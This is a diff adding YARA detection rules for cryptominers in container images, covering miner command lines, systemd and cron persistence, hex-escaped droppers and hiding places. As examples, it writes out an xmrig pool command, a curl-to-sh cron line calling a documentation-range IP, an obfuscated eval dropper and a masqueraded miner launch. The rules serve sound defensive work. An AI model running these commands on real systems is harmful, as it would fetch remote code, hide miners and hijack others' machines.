@@ -137,8 +137,9 @@ rule MH_MONERO_WALLET
     meta:
         id = "MH-MONERO-WALLET"
         family = "monero-wallet"
-        severity = "medium"
-        description = "A Monero standard (95 characters), integrated (106 characters) or subaddress (95 characters, starts with 8) in a text file that also names a mining pool or miner: a stratum URL, a pool host:port, or a miner's user/wallet option holding the address."
+        severity = "high"
+        confirm = "monero-address"
+        description = "A Monero standard (95 characters), integrated (106 characters) or subaddress (95 characters, starts with 8) that decodes (base58 blocks, network byte, Keccak checksum) in a file that also names a mining pool or miner: a stratum URL, a pool host:port, or a miner's user/wallet option holding the address."
         why = "A wallet address next to a pool is where a miner's earnings go; it ties a config, script or environment file to a mining payout even when no miner is present."
         example = "pool: pool.supportxmr.com:443  wallet: 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
         reference = "https://docs.getmonero.org/public-address/standard-address/"
@@ -160,4 +161,129 @@ rule MH_MONERO_WALLET
 
     condition:
         filesize < 10MB and any of ($addr_*) and any of ($ctx_*)
+}
+
+rule MH_MINER_COMMAND
+{
+    meta:
+        id = "MH-MINER-COMMAND"
+        family = "miner-launch"
+        severity = "high"
+        description = "A command line that starts a miner: pool options (-o/--url host:port with -u/--user), a stratum URL with a user, algorithm or donate option, or --donate-level with a Monero algorithm or a miner's name."
+        why = "An entrypoint, start script or service whose command line points a miner at a pool mines as soon as the container starts, whether the miner ships in the image or is fetched later."
+        example = "xmrig -o pool.supportxmr.com:443 -u 44AFFq5k... -k --tls --donate-level 1"
+        reference = "https://xmrig.com/docs/miner/command-line-options"
+
+    strings:
+        $pool_opt = /(^|[\s"'=,\[])(-o|--url)[\s"',=]+["']?(stratum[12]?\+(tcp|ssl|tls):\/\/)?[A-Za-z0-9.\-]{3,}:[0-9]{2,5}\b/
+        $user_opt = /(^|[\s"',\[])(-u|--user|-O|--userpass|--wallet)[\s"',=]+["']?[A-Za-z0-9]/
+        $stratum  = /stratum[12]?\+(tcp|ssl|tls):\/\/[A-Za-z0-9.\-]{3,}:[0-9]{2,5}/
+        $donate   = /--donate-level[\s"',=]+[0-9]/
+        $algo     = /(-a|--algo|--coin)[\s"',=]+["']?(monero|xmr|rx\/0|rx\/wow|cn\/r|cn\/0|cn\/half|cryptonight|randomx|ghostrider|argon2\/chukwa)\b/
+        $name1    = "xmrig" nocase
+        $name2    = "xmr-stak" nocase
+        $name3    = "minerd" fullword
+        $name4    = "cpuminer" nocase
+
+    condition:
+        filesize < 1MB and uint32(0) != 0x464c457f and (
+            ( $pool_opt and $user_opt )
+            or ( $stratum and ( $user_opt or $donate or $algo or any of ($name*) ) )
+            or ( $donate and ( $algo or any of ($name*) ) )
+        )
+}
+
+rule MH_MINER_SYSTEMD_UNIT
+{
+    meta:
+        id = "MH-MINER-SYSTEMD-UNIT"
+        family = "miner-persistence"
+        severity = "high"
+        description = "A systemd unit whose ExecStart line starts a miner: a miner's name, a stratum URL, --donate-level or -o host:port pool options on the ExecStart/ExecStartPre line."
+        why = "Miner campaigns install a service so the miner starts on every boot and restarts when killed; a unit file for a miner in an image is a persistence mechanism ready to be enabled."
+        example = "[Service]\nExecStart=/usr/local/bin/kswapd0 -o pool.supportxmr.com:443 -u 44AFFq5k...\nRestart=always"
+        reference = "https://attack.mitre.org/techniques/T1543/002/"
+
+    strings:
+        $section = "[Service]"
+        $exec    = /ExecStart(Pre|Post)?=[^\n]{0,400}(xmrig|xmr-stak|minerd|cpuminer|kdevtmpfsi|kinsing|stratum[12]?\+(tcp|ssl|tls):\/\/|--donate-level|\s-o\s+[A-Za-z0-9.\-]+:[0-9]{2,5})/
+
+    condition:
+        filesize < 1MB and $section and $exec
+}
+
+rule MH_MINER_CRON
+{
+    meta:
+        id = "MH-MINER-CRON"
+        family = "miner-persistence"
+        severity = "high"
+        description = "A cron line that starts a miner (a miner's name, stratum URL, --donate-level or pool options) or that downloads and pipes a script into a shell."
+        why = "Cron entries that re-fetch and pipe a script into sh, or restart a miner, are how cryptojacking campaigns (Kinsing, TeamTNT, WatchDog) survive cleanup; a crontab like this in an image re-infects every container."
+        example = "*/5 * * * * curl -fsSL http://203.0.113.7/d.sh | sh"
+        reference = "https://attack.mitre.org/techniques/T1053/003/"
+
+    strings:
+        $miner = /(^|\n)[ \t]*(@reboot|@hourly|@daily|@weekly|([0-9*\/,\-]+[ \t]+){4}[0-9A-Za-z*\/,\-]+)[ \t]+[^\n]{0,300}(xmrig|xmr-stak|minerd|cpuminer|kdevtmpfsi|kinsing|stratum[12]?\+(tcp|ssl|tls):\/\/|--donate-level|\s-o\s+[A-Za-z0-9.\-]+:[0-9]{2,5})/
+        $fetch = /(^|\n)[ \t]*(@reboot|@hourly|@daily|@weekly|([0-9*\/,\-]+[ \t]+){4}[0-9A-Za-z*\/,\-]+)[ \t]+[^\n]{0,100}(curl|wget)[^\n|]{1,300}\|[ \t]*(ba|da|z)?sh\b/
+
+    condition:
+        filesize < 1MB and uint32(0) != 0x464c457f and ($miner or $fetch)
+}
+
+rule MH_DROPPER_ESCAPED
+{
+    meta:
+        id = "MH-DROPPER-ESCAPED"
+        family = "miner-dropper"
+        severity = "high"
+        description = "A script that hides miner or dropper words as \\x hex escapes (xmrig, stratum+, --donate-level, pool hosts, curl/wget, chmod) and decodes them at run time (printf, echo -e, $'...', eval, exec, Python/Perl string escapes)."
+        why = "Escaping every byte defeats plain string matching; legitimate scripts have no reason to spell a miner's name or a pool as \\x escapes."
+        example = "eval \"$(printf '\\x63\\x75\\x72\\x6c ... \\x78\\x6d\\x72\\x69\\x67')\""
+        reference = "https://attack.mitre.org/techniques/T1027/"
+
+    strings:
+        $m1 = "\\x78\\x6d\\x72\\x69\\x67" nocase
+        $m2 = "\\x73\\x74\\x72\\x61\\x74\\x75\\x6d\\x2b" nocase
+        $m3 = "\\x64\\x6f\\x6e\\x61\\x74\\x65\\x2d\\x6c\\x65\\x76\\x65\\x6c" nocase
+        $m4 = "\\x70\\x6f\\x6f\\x6c" nocase
+        $m5 = "\\x6d\\x69\\x6e\\x65\\x72" nocase
+        $m6 = "\\x6b\\x64\\x65\\x76\\x74\\x6d\\x70\\x66\\x73\\x69" nocase
+        $d1 = "\\x63\\x75\\x72\\x6c" nocase
+        $d2 = "\\x77\\x67\\x65\\x74" nocase
+        $d3 = "\\x63\\x68\\x6d\\x6f\\x64" nocase
+        $run1 = /\b(printf|eval|exec)\b/
+        $run2 = /echo\s+-[a-z]*e/
+        $run3 = "$'\\x"
+
+    condition:
+        filesize < 5MB and uint32(0) != 0x464c457f and any of ($m*) and
+        ( any of ($d*) or any of ($run*) )
+}
+
+rule MH_HIDING_PLACE
+{
+    meta:
+        id = "MH-HIDING-PLACE"
+        family = "miner-hiding"
+        severity = "low"
+        description = "A script that runs or writes a file under a name or place miners hide in: kdevtmpfsi, kthreaddi, kswapd0, a fake [kworker/...] name, /tmp/.X11-unix/..., /dev/shm/..., /var/tmp/.hidden, together with chmod, nohup, setsid or exec -a."
+        why = "Supporting evidence only: miner droppers park their binary where administrators do not look and name it after kernel threads. Alone it is low; beside a miner finding it confirms intent."
+        example = "chmod +x /tmp/.X11-unix/kswapd0 && nohup /tmp/.X11-unix/kswapd0 &"
+        reference = "https://attack.mitre.org/techniques/T1036/004/"
+
+    strings:
+        $n1 = "kdevtmpfsi" fullword
+        $n2 = "kthreaddi" fullword
+        $n3 = "kswapd0" fullword
+        $n4 = /\[kworker\/[0-9]+:[0-9a-zA-Z]+\]/
+        $p1 = /\/tmp\/\.X11-unix\/[A-Za-z0-9._\-]+/
+        $p2 = /\/dev\/shm\/[A-Za-z0-9._\-]+/
+        $p3 = /\/var\/tmp\/\.[A-Za-z0-9._\-]+/
+        $p4 = /\/tmp\/\.[A-Za-z0-9_][A-Za-z0-9._\-]*\//
+        $run = /\b(chmod|nohup|setsid)\b/
+        $masquerade = /\bexec\s+-a\s+["']?\[/
+
+    condition:
+        filesize < 5MB and uint32(0) != 0x464c457f and ($run or $masquerade) and any of ($n*, $p*)
 }
